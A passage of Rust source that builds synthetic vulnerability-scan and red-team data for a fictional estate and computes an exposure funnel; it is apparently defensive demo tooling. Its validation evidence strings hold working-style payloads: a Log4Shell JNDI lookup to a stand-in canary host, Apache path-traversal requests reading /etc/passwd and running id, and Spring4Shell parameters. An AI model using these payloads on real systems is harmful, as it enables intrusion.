//! The estate: assets, their findings, and the ground truth of the funnel.
//!
//! The estate has two parts:
//!
//! - the **core**, written by hand, which carries the whole attack story:
//!   the internet-facing crown-jewel assets with known-exploited CVEs on
//!   80/443, the assets one hop behind them, what the red team confirmed,
//!   what the WAF blocked, and a few results on unreachable assets;
//! - the **bulk**, generated per segment (workstations, legacy, lab, cloud
//!   dev, management, in-scope application and data servers, images,
//!   repositories) to reach `DemoOptions::findings`, scaling linearly.
//!
//! One invariant keeps the ground truth stable at every size: bulk assets in
//! zones an attacker can reach (dmz, app, data, corp-lan) never carry a
//! network-vector exposure with exploitation intel, except on the corp-lan
//! workstations, where the attacker is assumed to be already. So the
//! reachable exposures are exactly the core's, and [`Ledger`] recomputes them
//! with the reachability rules of `docs/scope.md` as a check.

use crate::catalog::{self, CODE_RULES, CVES, CodeRule, Cve, Eco, Lang, Plugin};
use crate::rng::Rng;
use std::collections::{BTreeSet, HashSet};

/// A network zone of the scope's topology.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(crate) enum Zone {
    Internet,
    Dmz,
    App,
    Data,
    CorpLan,
    Mgmt,
    K8s,
}

/// The flows declared in `ctem.toml` (kept in sync by a test that parses it).
pub(crate) const FLOWS: &[(Zone, Zone, &[u16])] = &[
    (Zone::Internet, Zone::Dmz, &[80, 443]),
    (Zone::Dmz, Zone::App, &[8080, 8443]),
    (Zone::App, Zone::Data, &[5432, 1521, 1433]),
    (Zone::CorpLan, Zone::App, &[443, 3389]),
    (Zone::Mgmt, Zone::Dmz, &[22, 443]),
    (Zone::Mgmt, Zone::App, &[]),
    (Zone::Mgmt, Zone::Data, &[]),
    (Zone::Mgmt, Zone::K8s, &[22, 6443]),
    (Zone::K8s, Zone::Data, &[5432, 1521, 1433]),
];

pub(crate) const ASSUMED_BREACH: &[Zone] = &[Zone::CorpLan];

/// Operating system of a host, as Nessus reports it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Os {
    Rhel8,
    Rhel9,
    Debian12,
    Debian11,
    CentOs6,
    Win2019,
    Win2008,
    Win10,
    Win11,
    NetScaler,
    PaloAlto,
}

impl Os {
    pub(crate) fn nessus_name(self) -> &'static str {
        match self {
            Os::Rhel8 => {
                "Linux Kernel 4.18.0-477.27.1.el8_8.x86_64 on Red Hat Enterprise Linux release 8.8 (Ootpa)"
            }
            Os::Rhel9 => {
                "Linux Kernel 5.14.0-362.8.1.el9_3.x86_64 on Red Hat Enterprise Linux release 9.3 (Plow)"
            }
            Os::Debian12 => "Linux Kernel 6.1.0-18-amd64 on Debian 12.5",
            Os::Debian11 => "Linux Kernel 5.10.0-11-amd64 on Debian 11.2",
            Os::CentOs6 => "Linux Kernel 2.6.32-642.6.1.el6.x86_64 on CentOS release 6.8 (Final)",
            Os::Win2019 => "Microsoft Windows Server 2019 Standard Build 17763",
            Os::Win2008 => "Microsoft Windows Server 2008 R2 Standard Service Pack 1",
            Os::Win10 => "Microsoft Windows 10 Enterprise Build 19045",
            Os::Win11 => "Microsoft Windows 11 Enterprise Build 22631",
            Os::NetScaler => "Citrix NetScaler",
            Os::PaloAlto => "Palo Alto Networks PAN-OS 10.2.8",
        }
    }

    pub(crate) fn family(self) -> &'static str {
        match self {
            Os::Win2019 | Os::Win2008 | Os::Win10 | Os::Win11 => "windows",
            Os::NetScaler | Os::PaloAlto => "other",
            _ => "linux",
        }
    }

    pub(crate) fn is_windows(self) -> bool {
        self.family() == "windows"
    }

    /// The Trivy `Metadata.OS` / target suffix for a Trivy VM scan.
    pub(crate) fn trivy_os(self) -> (&'static str, &'static str) {
        match self {
            Os::Rhel8 => ("redhat", "8.8"),
            Os::Rhel9 => ("redhat", "9.3"),
            Os::Debian11 => ("debian", "11.2"),
            Os::CentOs6 => ("centos", "6.8"),
            _ => ("debian", "12.5"),
        }
    }
}

/// One Nessus report item.
#[derive(Debug, Clone, Copy)]
pub(crate) enum HostItem {
    Cve { cve: &'static Cve, port: u16 },
    Plugin { plugin: &'static Plugin, port: u16 },
}

impl HostItem {
    fn key(&self) -> String {
        match self {
            HostItem::Cve { cve, .. } => format!("{}|{}", cve.id, cve.pkg),
            HostItem::Plugin { plugin, port } => format!("{}|{}", plugin.id, port),
        }
    }

    /// The port ctem sees: `None` for local checks (Nessus port 0).
    pub(crate) fn port(&self) -> Option<u16> {
        let p = match self {
            HostItem::Cve { port, .. } | HostItem::Plugin { port, .. } => *port,
        };
        (p != 0).then_some(p)
    }
}

#[derive(Debug, Clone)]
pub(crate) struct Host {
    pub short: String,
    pub fqdn: Option<String>,
    pub ip: String,
    pub os: Os,
    pub zone: Option<Zone>,
    pub service: Option<&'static str>,
    /// Which `.nessus` file the host is reported in.
    pub scan: Scan,
    pub items: Vec<HostItem>,
    /// Also scanned by Trivy (VM scan): its package findings are reported twice.
    pub trivy_vm: bool,
}

impl Host {
    /// The package findings a Trivy VM scan of this host reports.
    pub(crate) fn vm_packages(&self) -> Vec<&'static Cve> {
        self.items
            .iter()
            .filter_map(|i| match i {
                HostItem::Cve { cve, port: 0 }
                    if matches!(cve.eco, Eco::Rpm8 | Eco::Rpm9 | Eco::Deb | Eco::Rpm6) =>
                {
                    Some(*cve)
                }
                _ => None,
            })
            .collect()
    }
}

/// The Nessus scans (one `.nessus` file each).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Scan {
    DmzExternal,
    DatacenterServers,
    Workstations,
    LegacyAndLab,
    CloudEuWest1,
}

impl Scan {
    pub(crate) const ALL: [Scan; 5] = [
        Scan::DmzExternal,
        Scan::DatacenterServers,
        Scan::Workstations,
        Scan::LegacyAndLab,
        Scan::CloudEuWest1,
    ];

    pub(crate) fn file(self) -> &'static str {
        match self {
            Scan::DmzExternal => "dmz-external",
            Scan::DatacenterServers => "datacenter-servers",
            Scan::Workstations => "corp-workstations",
            Scan::LegacyAndLab => "legacy-and-lab",
            Scan::CloudEuWest1 => "cloud-eu-west-1",
        }
    }

    pub(crate) fn policy(self) -> &'static str {
        match self {
            Scan::DmzExternal => "Atlantica - External DMZ (uncredentialed)",
            Scan::Workstations => "Atlantica - Workstations (credentialed)",
            _ => "Atlantica - Internal Servers (credentialed)",
        }
    }

    pub(crate) fn targets(self) -> &'static str {
        match self {
            Scan::DmzExternal => "203.0.113.0/24",
            Scan::DatacenterServers => "10.20.0.0/14,10.30.0.0/14,10.64.0.0/16,10.90.0.0/16",
            Scan::Workstations => "10.48.0.0/12",
            Scan::LegacyAndLab => "172.16.0.0/12,10.70.0.0/15",
            Scan::CloudEuWest1 => "10.128.0.0/16,10.129.0.0/16",
        }
    }
}

/// Base image of a container image.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Base {
    Debian12,
    Alpine318,
    Ubi9,
}

impl Base {
    pub(crate) fn os(self) -> (&'static str, &'static str) {
        match self {
            Base::Debian12 => ("debian", "12.5"),
            Base::Alpine318 => ("alpine", "3.18.4"),
            Base::Ubi9 => ("redhat", "9.3"),
        }
    }

    fn eco(self) -> Eco {
        match self {
            Base::Debian12 => Eco::Deb,
            Base::Alpine318 => Eco::Apk,
            Base::Ubi9 => Eco::Rpm9,
        }
    }
}

#[derive(Debug, Clone)]
pub(crate) struct Image {
    /// Name without tag: `registry.atlantica.example/claims/claims-api`.
    pub name: String,
    pub tag: String,
    pub base: Base,
    pub lang: Lang,
    /// Application directory or binary inside the image.
    pub app: String,
    pub zone: Option<Zone>,
    pub service: Option<&'static str>,
    pub vulns: Vec<&'static Cve>,
}

/// A code finding: rule, file, line.
#[derive(Debug, Clone)]
pub(crate) struct CodeFinding {
    pub rule: &'static CodeRule,
    pub file: String,
    pub line: u32,
}

#[derive(Debug, Clone)]
pub(crate) struct Repo {
    /// `https://github.com/atlantica/claims-core`.
    pub url: String,
    pub service: Option<&'static str>,
    pub code: Vec<CodeFinding>,
    pub deps: Vec<&'static Cve>,
}

impl Repo {
    pub(crate) fn findings(&self) -> usize {
        self.code.len() + self.deps.len()
    }
}

/// What a red team or BAS tool reported for one exposure.
#[derive(Debug, Clone)]
pub(crate) struct Validation {
    pub asset: String,
    pub weakness: &'static str,
    pub result: &'static str,
    pub control: Option<&'static str>,
    pub reason: Option<&'static str>,
    pub evidence: &'static str,
    /// Days before `now`.
    pub days_ago: i64,
    pub minute: i64,
}

// ---------------------------------------------------------------------------
// The funnel ledger.

/// The funnel ctem computes, as designed into the data.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Funnel {
    /// Every finding written, across all reports (duplicates included).
    pub findings: usize,
    /// Findings on assets that some service's selectors match.
    pub in_scope: usize,
    /// In-scope findings whose CVE is in KEV or has EPSS ≥ 0.5.
    pub exploitable_intel: usize,
    /// Of those, the ones an attacker reaches (docs/scope.md reachability).
    pub reachable: usize,
    /// Of those, the ones the red team confirmed exploitable.
    pub validated: usize,
}

#[derive(Debug, Clone, Copy)]
struct Rec {
    asset: u32,
    zone: Option<Zone>,
    in_scope: bool,
    port: Option<u16>,
    intel: bool,
    network: bool,
    validated: bool,
}

/// Counts findings as they are written and keeps the few facts the
/// reachability computation needs.
#[derive(Debug, Default)]
pub(crate) struct Ledger {
    pub findings: usize,
    pub in_scope: usize,
    pub intel_in_scope: usize,
    recs: Vec<Rec>,
}

impl Ledger {
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn add(
        &mut self,
        asset: u32,
        zone: Option<Zone>,
        in_scope: bool,
        port: Option<u16>,
        intel: bool,
        network: bool,
        validated: bool,
    ) {
        self.findings += 1;
        if in_scope {
            self.in_scope += 1;
            if intel {
                self.intel_in_scope += 1;
            }
        }
        if intel || validated {
            self.recs.push(Rec {
                asset,
                zone,
                in_scope,
                port,
                intel,
                network,
                validated,
            });
        }
    }

    /// Runs the reachability rules to a fixpoint and returns the funnel.
    pub(crate) fn funnel(&self) -> Funnel {
        let mut attacker: BTreeSet<Zone> = BTreeSet::new();
        attacker.insert(Zone::Internet);
        attacker.extend(ASSUMED_BREACH.iter().copied());
        let reached = |att: &BTreeSet<Zone>, zone: Option<Zone>, port: Option<u16>| match zone {
            None => false,
            Some(z) => {
                att.contains(&z)
                    || FLOWS.iter().any(|(from, to, ports)| {
                        *to == z
                            && att.contains(from)
                            && port.is_none_or(|p| ports.is_empty() || ports.contains(&p))
                    })
            }
        };
        let mut footholds: HashSet<u32> = HashSet::new();
        loop {
            let mut changed = false;
            for r in &self.recs {
                if r.network && reached(&attacker, r.zone, r.port) && footholds.insert(r.asset) {
                    changed = true;
                    if let Some(z) = r.zone {
                        attacker.insert(z);
                    }
                }
            }
            if !changed {
                break;
            }
        }
        let mut f = Funnel {
            findings: self.findings,
            in_scope: self.in_scope,
            exploitable_intel: self.intel_in_scope,
            ..Funnel::default()
        };
        // Validated-only records (no intel) are not in the intel step.
        for r in self.recs.iter().filter(|r| r.in_scope && r.intel) {
            let reachable =
                (r.network && reached(&attacker, r.zone, r.port)) || footholds.contains(&r.asset);
            if reachable {
                f.reachable += 1;
                if r.validated {
                    f.validated += 1;
                }
            }
        }
        f
    }
}

// ---------------------------------------------------------------------------
// The core.

fn cve(id: &str) -> &'static Cve {
    catalog::find(id, |_| true)
}

fn cve_on(id: &str, eco: Eco) -> &'static Cve {
    CVES.iter()
        .find(|c| c.id == id && c.eco == eco)
        .unwrap_or_else(|| cve(id))
}

fn c(id: &str, port: u16) -> HostItem {
    HostItem::Cve { cve: cve(id), port }
}

fn ce(id: &str, eco: Eco, port: u16) -> HostItem {
    HostItem::Cve {
        cve: cve_on(id, eco),
        port,
    }
}

fn p(id: u32, port: u16) -> HostItem {
    HostItem::Plugin {
        plugin: catalog::plugin(id),
        port,
    }
}

#[allow(clippy::too_many_arguments)]
fn host(
    short: &str,
    fqdn: &str,
    ip: &str,
    os: Os,
    zone: Option<Zone>,
    service: Option<&'static str>,
    scan: Scan,
    items: Vec<HostItem>,
) -> Host {
    Host {
        short: short.to_string(),
        fqdn: (!fqdn.is_empty()).then(|| fqdn.to_string()),
        ip: ip.to_string(),
        os,
        zone,
        service,
        scan,
        items,
        trivy_vm: false,
    }
}

/// The hand-written core: the attack story.
pub(crate) struct Core {
    pub hosts: Vec<Host>,
    pub images: Vec<Image>,
    pub validations: Vec<Validation>,
}

#[rustfmt::skip]
pub(crate) fn core() -> Core {
    use Eco::*;
    use Zone::*;
    let dmz = Some(Dmz);
    let ext = Scan::DmzExternal;
    let dc = Scan::DatacenterServers;
    let mut hosts = vec![
        // --- Internet-facing, in scope ---------------------------------------
        host("portal-adc-01", "portal-adc-01.atlantica.example", "203.0.113.10", Os::NetScaler, dmz,
            Some("customer-portal"), ext,
            vec![c("CVE-2023-4966", 443), c("CVE-2023-3519", 443), p(104743, 443), p(42873, 443)]),
        host("portal-web-01", "portal-web-01.atlantica.example", "203.0.113.21", Os::Rhel8, dmz,
            Some("customer-portal"), ext,
            vec![c("CVE-2021-41773", 443), c("CVE-2021-42013", 443), c("CVE-2023-25690", 443),
                 p(11213, 80), p(90317, 22)]),
        host("portal-web-02", "portal-web-02.atlantica.example", "203.0.113.22", Os::Debian12, dmz,
            Some("customer-portal"), ext,
            vec![c("CVE-2023-44487", 443), p(157288, 443), p(70658, 22)]),
        host("mft", "mft.atlantica.example", "203.0.113.30", Os::Win2019, dmz,
            Some("broker-api"), ext,
            vec![c("CVE-2023-34362", 443), p(104743, 443), p(58453, 3389)]),
        host("brokers-gw-01", "brokers-gw-01.atlantica.example", "203.0.113.40", Os::Rhel9, dmz,
            Some("broker-api"), ext,
            vec![ce("CVE-2022-22965", Net(8443), 443), p(15901, 443), p(90317, 22)]),
        // --- Internet-facing, out of scope (shared infrastructure) ----------
        host("mail", "mail.atlantica.example", "203.0.113.25", Os::Win2019, dmz, None, ext,
            vec![c("CVE-2021-26855", 443), c("CVE-2021-34473", 443), c("CVE-2022-41082", 443),
                 p(57582, 3389)]),
        host("vpn", "vpn.atlantica.example", "203.0.113.5", Os::PaloAlto, dmz, None, ext,
            vec![c("CVE-2024-3400", 443), p(42873, 443)]),
        // --- One hop behind the DMZ (app zone) -------------------------------
        host("clm-api-02", "clm-api-02.corp.atlantica.example", "10.21.0.12", Os::Rhel9, Some(App),
            Some("claims"), dc,
            vec![ce("CVE-2022-22965", Net(8443), 8443), ce("CVE-2024-0727", Rpm9, 0),
                 ce("CVE-2023-24329", Rpm9, 0), p(57582, 8443)]),
        host("pol-app-01", "pol-app-01.corp.atlantica.example", "10.20.0.11", Os::Rhel8, Some(App),
            Some("policy-issuance"), dc,
            vec![c("CVE-2023-46604", 61616), ce("CVE-2023-0286", Rpm8, 0),
                 ce("CVE-2018-25032", Rpm8, 0), p(90317, 22)]),
        host("intra-wiki-01", "intra-wiki-01.corp.atlantica.example", "10.23.128.10", Os::Debian12,
            Some(App), Some("intranet"), dc,
            vec![c("CVE-2022-26134", 443), ce("CVE-2023-52425", Deb, 0), ce("CVE-2023-7104", Deb, 0),
                 p(51192, 443)]),
        // --- Behind, but only local-vector intel: not reachable ---------------
        host("clm-api-01", "clm-api-01.corp.atlantica.example", "10.21.0.11", Os::Rhel9, Some(App),
            Some("claims"), dc,
            vec![ce("CVE-2023-4911", Rpm9, 0), ce("CVE-2024-6387", Rpm9, 0),
                 ce("CVE-2024-0727", Rpm9, 0), ce("CVE-2023-50387", Rpm9, 0), p(57582, 8443)]),
        host("clm-db-01", "clm-db-01.corp.atlantica.example", "10.31.0.10", Os::Rhel8, Some(Data),
            Some("claims"), dc,
            vec![ce("CVE-2021-4034", Rpm8, 0), ce("CVE-2018-25032", Rpm8, 0), p(90317, 22)]),
        // --- Out of scope, unreachable, still tested ------------------------
        host("dc-01", "dc-01.corp.atlantica.example", "10.90.0.10", Os::Win2019, Some(Mgmt), None, dc,
            vec![c("CVE-2020-1472", 445), c("CVE-2022-26923", 445), p(57608, 445)]),
        host("FINSRV2008", "finsrv2008.legacy.atlantica.local", "172.16.4.21", Os::Win2008, None, None,
            Scan::LegacyAndLab,
            vec![c("CVE-2017-0144", 445), c("CVE-2019-0708", 3389), p(108797, 0), p(57608, 445)]),
    ];
    // clm-api-01 is also scanned by Trivy: the same CVEs reported twice.
    for h in &mut hosts {
        if h.short == "clm-api-01" {
            h.trivy_vm = true;
        }
    }
    let images = vec![
        Image {
            name: "registry.atlantica.example/portal/portal-api".into(),
            tag: "4.2.0".into(),
            base: Base::Debian12,
            lang: Lang::Java,
            app: "app/portal-api.jar".into(),
            zone: dmz,
            service: Some("customer-portal"),
            vulns: vec![
                cve("CVE-2021-44228"), cve("CVE-2022-42889"), cve("CVE-2020-36518"),
                cve("CVE-2022-25857"), cve("CVE-2023-46589"), cve_on("CVE-2023-5678", Deb),
                cve_on("CVE-2023-45853", Deb), cve_on("CVE-2023-52425", Deb),
            ],
        },
        Image {
            name: "registry.atlantica.example/portal/portal-web".into(),
            tag: "4.2.0".into(),
            base: Base::Alpine318,
            lang: Lang::TypeScript,
            app: "app".into(),
            zone: dmz,
            service: Some("customer-portal"),
            vulns: vec![
                cve("CVE-2021-23337"), cve("CVE-2022-25883"), cve("CVE-2024-29041"),
                cve("CVE-2024-37890"), cve_on("CVE-2023-42363", Apk), cve_on("CVE-2023-5678", Apk),
            ],
        },
        Image {
            name: "registry.atlantica.example/dwh/etl-runner".into(),
            tag: "2.7.3".into(),
            base: Base::Debian12,
            lang: Lang::Java,
            app: "opt/etl/etl-runner.jar".into(),
            zone: Some(K8s),
            service: Some("data-warehouse"),
            vulns: vec![
                cve("CVE-2022-22963"), cve("CVE-2022-1471"), cve("CVE-2023-6378"),
                cve_on("CVE-2023-4911", Deb), cve_on("CVE-2023-38545", Deb), cve_on("CVE-2024-25062", Deb),
            ],
        },
    ];
    let v = |asset: &str, weakness: &'static str, result: &'static str, control: Option<&'static str>,
             reason: Option<&'static str>, evidence: &'static str, days_ago: i64, minute: i64| Validation {
        asset: asset.to_string(), weakness, result, control, reason, evidence, days_ago, minute,
    };
    let validations = vec![
        v("portal-adc-01.atlantica.example", "CVE-2023-4966", "exploitable", None, None,
          "Sent an oversized Host header to /oauth/idp/.well-known/openid-configuration; the response leaked 8 KB of memory containing a valid nsc_aaa session cookie, replayed to obtain an authenticated Gateway session.", 9, 610),
        v("portal-adc-01.atlantica.example", "CVE-2023-3519", "exploitable", None, None,
          "Stack overflow in the /gwtest/formssso handler gave a shell as nobody on the appliance; wrote a marker file under /var/tmp and removed it.", 9, 655),
        v("portal-web-01.atlantica.example", "CVE-2021-41773", "blocked_by_control", Some("edge-waf"), None,
          "GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd returned 403 from the edge WAF (rule 930100 path traversal).", 8, 560),
        v("portal-web-01.atlantica.example", "CVE-2021-42013", "exploitable", None, None,
          "Double-encoded traversal (/cgi-bin/%%32%65%%32%65/bin/sh) bypassed the WAF signature; POST echo;id returned uid=48(apache).", 8, 585),
        v("mft.atlantica.example", "CVE-2023-34362", "exploitable", None, None,
          "SQL injection through moveitisapi.dll and guestaccess.aspx created a sysadmin session; listed the broker file-exchange folders, downloaded nothing.", 7, 840),
        v("brokers-gw-01.atlantica.example", "CVE-2022-22965", "blocked_by_control", Some("edge-waf"), None,
          "POST with class.module.classLoader.resources.context.parent.pipeline.first.pattern was rejected by the edge WAF (Spring4Shell virtual patch).", 7, 900),
        v("registry.atlantica.example/portal/portal-api", "CVE-2021-44228", "exploitable", None, None,
          "${jndi:ldap://canary.redteam.example/a} in the X-Api-Version header of https://my.atlantica.example/api/quotes triggered an LDAP callback from portal-api; loaded a benign class that printed the hostname.", 6, 620),
        v("registry.atlantica.example/portal/portal-api", "CVE-2022-42889", "not_exploitable", None,
          Some("commons-text 1.9 is on the classpath only as a transitive dependency of the PDF renderer; no code path passes user input to StringSubstitutor.createInterpolator()."),
          "Fuzzed every quote and claim form field with ${script:javascript:...} and ${dns:...} payloads; no callback, no evaluation.", 6, 700),
        v("clm-api-02.corp.atlantica.example", "CVE-2022-22965", "exploitable", None, None,
          "From the foothold on portal-web-01, reached clm-api-02:8443 and wrote a JSP through the Tomcat AccessLogValve; executed whoami as tomcat.", 5, 630),
        v("pol-app-01.corp.atlantica.example", "CVE-2023-46604", "exploitable", None, None,
          "From clm-api-02, sent an OpenWire ExceptionResponse with a ClassPathXmlApplicationContext payload to pol-app-01:61616; the broker fetched our XML and ran id.", 4, 660),
        v("intra-wiki-01.corp.atlantica.example", "CVE-2022-26134", "exploitable", None, None,
          "From an assumed-breach workstation on the corporate LAN, OGNL injection in the URI of https://intra-wiki-01/ ran id as confluence.", 4, 800),
        v("clm-db-01.corp.atlantica.example", "CVE-2021-4034", "not_exploitable", None,
          Some("pkexec has had its setuid bit removed by the hardening baseline; the exploit fails with 'pkexec must be setuid root'."),
          "Ran the public PwnKit proof of concept from a low-privileged account provided for the assumed-compromise test.", 3, 590),
        v("registry.atlantica.example/dwh/etl-runner", "CVE-2022-22963", "not_exploitable", None,
          Some("The function router is disabled (spring.cloud.function.definition is fixed) and the HTTP endpoint is not exposed outside the cluster."),
          "Sent spring.cloud.function.routing-expression headers to the etl-runner service from a debug pod; requests were ignored.", 3, 640),
        v("dc-01.corp.atlantica.example", "CVE-2020-1472", "not_exploitable", None,
          Some("Netlogon secure channel enforcement is on (FullSecureChannelProtection=1); the Nessus finding is a false positive of the remote check."),
          "2,000 NetrServerAuthenticate3 attempts with zero client credentials were all rejected.", 2, 720),
        v("finsrv2008.legacy.atlantica.local", "CVE-2017-0144", "exploitable", None, None,
          "MS17-010 EternalBlue from the lab VLAN gave a SYSTEM shell on the unmanaged Windows 2008 R2 file server.", 2, 810),
    ];
    Core {
        hosts,
        images,
        validations,
    }
}

// ---------------------------------------------------------------------------
// The bulk.

/// What a bulk segment generates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SegKind {
    AppServers,
    DataServers,
    Workstations,
    Legacy,
    Lab,
    CloudDev,
    Mgmt,
    K8sNodes,
    AppImages,
    K8sImages,
    SandboxImages,
    InScopeRepos,
    OtherRepos,
}

/// A segment: its share of the bulk findings and the share of them that
/// carries exploitation intel.
pub(crate) struct Segment {
    pub kind: SegKind,
    pub share: f64,
    pub intel_rate: f64,
    /// Only local-vector intel (the assets sit in reachable zones).
    pub local_intel_only: bool,
}

/// Shares sum to 1. In scope: 19% of the bulk; with the core this gives
/// ~23% of all findings in scope, ~3.4% in scope with exploitation intel.
#[rustfmt::skip]
pub(crate) const SEGMENTS: &[Segment] = &[
    Segment { kind: SegKind::AppServers, share: 0.065, intel_rate: 0.15, local_intel_only: true },
    Segment { kind: SegKind::DataServers, share: 0.04, intel_rate: 0.15, local_intel_only: true },
    Segment { kind: SegKind::AppImages, share: 0.04, intel_rate: 0.12, local_intel_only: true },
    Segment { kind: SegKind::K8sImages, share: 0.015, intel_rate: 0.15, local_intel_only: false },
    Segment { kind: SegKind::InScopeRepos, share: 0.03, intel_rate: 0.12, local_intel_only: false },
    Segment { kind: SegKind::Workstations, share: 0.345, intel_rate: 0.15, local_intel_only: false },
    Segment { kind: SegKind::Legacy, share: 0.10, intel_rate: 0.25, local_intel_only: false },
    Segment { kind: SegKind::Lab, share: 0.07, intel_rate: 0.08, local_intel_only: false },
    Segment { kind: SegKind::CloudDev, share: 0.06, intel_rate: 0.05, local_intel_only: false },
    Segment { kind: SegKind::Mgmt, share: 0.05, intel_rate: 0.10, local_intel_only: false },
    Segment { kind: SegKind::K8sNodes, share: 0.04, intel_rate: 0.06, local_intel_only: false },
    Segment { kind: SegKind::SandboxImages, share: 0.085, intel_rate: 0.08, local_intel_only: false },
    Segment { kind: SegKind::OtherRepos, share: 0.06, intel_rate: 0.06, local_intel_only: false },
];

/// Splits `bulk` findings over the segments; the quotas sum to `bulk`.
pub(crate) fn quotas(bulk: usize) -> Vec<usize> {
    let mut q: Vec<usize> = SEGMENTS
        .iter()
        .map(|s| (bulk as f64 * s.share).floor() as usize)
        .collect();
    let given: usize = q.iter().sum();
    // The remainder goes to the workstations, the largest segment.
    if let Some(ws) = SEGMENTS
        .iter()
        .position(|s| s.kind == SegKind::Workstations)
    {
        q[ws] += bulk - given;
    }
    q
}

/// An asset produced by a segment.
pub(crate) enum Asset {
    Host(Host),
    Image(Image),
    Repo(Repo),
}

impl Asset {
    pub(crate) fn findings(&self) -> usize {
        match self {
            Asset::Host(h) => h.items.len() + if h.trivy_vm { h.vm_packages().len() } else { 0 },
            Asset::Image(i) => i.vulns.len(),
            Asset::Repo(r) => r.findings(),
        }
    }
}

/// An item a segment can put on an asset.
#[derive(Clone, Copy)]
enum Pick {
    Item(HostItem),
    Vuln(&'static Cve),
    Code(&'static CodeRule),
}

impl Pick {
    fn intel(&self, local_only: bool) -> bool {
        let c = match self {
            Pick::Item(HostItem::Cve { cve, .. }) | Pick::Vuln(cve) => cve,
            _ => return false,
        };
        c.exploitable_intel() && !(local_only && c.network())
    }

    fn forbidden(&self, local_only: bool) -> bool {
        match self {
            Pick::Item(HostItem::Cve { cve, .. }) | Pick::Vuln(cve) => {
                local_only && cve.exploitable_intel() && cve.network()
            }
            _ => false,
        }
    }
}

fn os_items(os: Os) -> Vec<Pick> {
    let mut v = Vec::new();
    let pkg = |eco: Eco, v: &mut Vec<Pick>| {
        for c in CVES.iter().filter(|c| c.eco == eco) {
            v.push(Pick::Item(HostItem::Cve { cve: c, port: 0 }));
        }
    };
    let win_port = 445;
    match os {
        Os::Rhel8 => pkg(Eco::Rpm8, &mut v),
        Os::Rhel9 => pkg(Eco::Rpm9, &mut v),
        Os::Debian12 => {
            for c in CVES
                .iter()
                .filter(|c| c.eco == Eco::Deb && !c.pkg.starts_with("linux-"))
            {
                v.push(Pick::Item(HostItem::Cve { cve: c, port: 0 }));
            }
        }
        Os::Debian11 => pkg(Eco::Deb, &mut v),
        Os::CentOs6 => {
            pkg(Eco::Rpm6, &mut v);
            v.push(Pick::Item(p(33850, 0)));
            v.push(Pick::Item(p(41028, 161)));
        }
        Os::Win2019 | Os::Win10 | Os::Win11 => {
            for c in CVES.iter().filter(|c| c.eco == Eco::Win) {
                let workstation_only = c.id == "CVE-2023-23397" || c.id == "CVE-2024-21412";
                if workstation_only && os == Os::Win2019 {
                    continue;
                }
                v.push(Pick::Item(HostItem::Cve {
                    cve: c,
                    port: win_port,
                }));
            }
            if os != Os::Win2019 {
                for c in CVES.iter().filter(|c| c.eco == Eco::WinApp) {
                    v.push(Pick::Item(HostItem::Cve {
                        cve: c,
                        port: win_port,
                    }));
                }
            }
        }
        Os::Win2008 => {
            v.push(Pick::Item(c("CVE-2017-0144", 445)));
            v.push(Pick::Item(c("CVE-2019-0708", 3389)));
            v.push(Pick::Item(c("CVE-2021-34527", 445)));
            v.push(Pick::Item(p(108797, 0)));
            v.push(Pick::Item(p(18405, 3389)));
        }
        Os::NetScaler | Os::PaloAlto => {}
    }
    // Configuration findings, by platform.
    if os.is_windows() {
        for (id, port) in [(57608, 445), (58453, 3389), (57582, 3389), (104743, 3389)] {
            v.push(Pick::Item(p(id, port)));
        }
    } else {
        for (id, port) in [
            (90317, 22),
            (70658, 22),
            (51192, 443),
            (104743, 443),
            (42873, 443),
        ] {
            v.push(Pick::Item(p(id, port)));
        }
    }
    v
}

/// Every item a host of this OS can carry (for the benchmark writer).
pub(crate) fn host_items_for(os: Os) -> Vec<HostItem> {
    os_items(os)
        .into_iter()
        .filter_map(|x| match x {
            Pick::Item(i) => Some(i),
            _ => None,
        })
        .collect()
}

fn lang_eco(lang: Lang) -> Option<Eco> {
    match lang {
        Lang::Java => Some(Eco::Maven),
        Lang::TypeScript => Some(Eco::Npm),
        Lang::Python => Some(Eco::Pip),
        Lang::Go => Some(Eco::Go),
        Lang::Any => None,
    }
}

fn image_items(base: Base, lang: Lang) -> Vec<Pick> {
    let os = base.eco();
    let lang = lang_eco(lang);
    CVES.iter()
        .filter(|c| {
            (c.eco == os
                && !c.pkg.starts_with("linux-")
                && c.pkg != "kernel"
                && c.pkg != "openssh-server")
                || Some(c.eco) == lang
        })
        .map(Pick::Vuln)
        .collect()
}

fn repo_items(lang: Lang) -> Vec<Pick> {
    let mut v: Vec<Pick> = CODE_RULES
        .iter()
        .filter(|r| {
            r.lang == Lang::Any
                || r.lang == lang
                || (lang == Lang::Java && r.tool == catalog::CodeTool::CodeQl)
        })
        .filter(|r| {
            // Java repositories are scanned by CodeQL, the others by Semgrep.
            (lang == Lang::Java) == (r.tool == catalog::CodeTool::CodeQl) || r.lang == Lang::Any
        })
        .map(Pick::Code)
        .collect();
    if let Some(eco) = lang_eco(lang) {
        v.extend(CVES.iter().filter(|c| c.eco == eco).map(Pick::Vuln));
    }
    v
}

/// IPv4 address `base + index`, skipping .0 and .255 of every /24.
pub(crate) fn ip_at(base: [u8; 4], index: usize) -> String {
    let base = u32::from_be_bytes(base);
    let idx = index as u32;
    let addr = base + (idx / 254) * 256 + idx % 254 + 1;
    let b = addr.to_be_bytes();
    format!("{}.{}.{}.{}", b[0], b[1], b[2], b[3])
}

/// A service's application and data hosts.
struct SvcPlan {
    service: &'static str,
    prefix: &'static str,
    roles: &'static [&'static str],
    net: [u8; 4],
    zone: Zone,
}

#[rustfmt::skip]
const APP_PLANS: &[SvcPlan] = &[
    SvcPlan { service: "policy-issuance", prefix: "pol", roles: &["app", "api", "batch", "rating"], net: [10, 20, 0, 0], zone: Zone::App },
    SvcPlan { service: "claims", prefix: "clm", roles: &["api", "app", "docs", "fraud"], net: [10, 21, 0, 0], zone: Zone::App },
    SvcPlan { service: "broker-api", prefix: "brk", roles: &["api", "app", "sftp"], net: [10, 22, 0, 0], zone: Zone::App },
